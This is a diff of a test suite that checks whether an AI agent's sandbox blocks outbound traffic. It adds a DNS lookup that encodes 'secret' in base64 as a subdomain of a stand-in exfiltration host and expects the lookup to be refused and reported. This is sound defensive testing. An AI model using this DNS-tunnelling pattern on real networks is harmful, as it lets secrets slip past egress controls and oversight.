@@ -59,6 +59,8 @@ function post(url) {
 }
 (async () => {
   for (const t of targets) results[t] = await post(t);
+  // A name lookup carries data out through the machine's resolver unless the room's filter stops it.
+  results.dns = await require('dns').promises.resolve4(label + '-c2VjcmV0.exfil.example').then(() => 'resolved', (e) => 'ERR ' + e.code);
   // The project's own tests start servers on loopback: that must keep working.
   const server = http.createServer((q, s) => s.end('ok'));
   await new Promise((r) => server.listen(0, '127.0.0.1', r));
@@ -144,7 +146,8 @@ async function chainExists(uid: number): Promise<boolean> {
     const { stdout } = await exec(tool, ["-w", "-S", "OUTPUT"]);
     if (stdout.includes(`--uid-owner ${uid} `)) return true;
   }
-  return false;
+  const { stdout: nat } = await exec("iptables", ["-w", "-t", "nat", "-S"]);
+  return nat.includes(`AEGIS-DNS-${uid}`);
 }
 
 describe.skipIf(!canTest)("egress from the agent's room", () => {
@@ -161,8 +164,10 @@ describe.skipIf(!canTest)("egress from the agent's room", () => {
       // Refused at once by the rules (a reset), not left to time out.
       for (const t of s.targets) expect(r[t], `${label} ${t}`).toBe("ERR ECONNREFUSED");
       expect(r.loopback).toBe("delivered 200");
+      expect(r.dns, label).toBe("ERR EREFUSED");
     }
     expect(s.run.summary).toMatch(/Egress \(run\.egress\) \| \d+ outbound connection attempt\(s\) refused/);
+    expect(s.run.summary).toMatch(/\d+ name lookup\(s\) refused — .*`session-c2vjcmv0\.exfil\.example`/);
     expect(s.run.summary).toContain(`${s.outside.v4}:8080`);
     // No rule is left for a later job.
     expect(await chainExists(s.uid)).toBe(false);
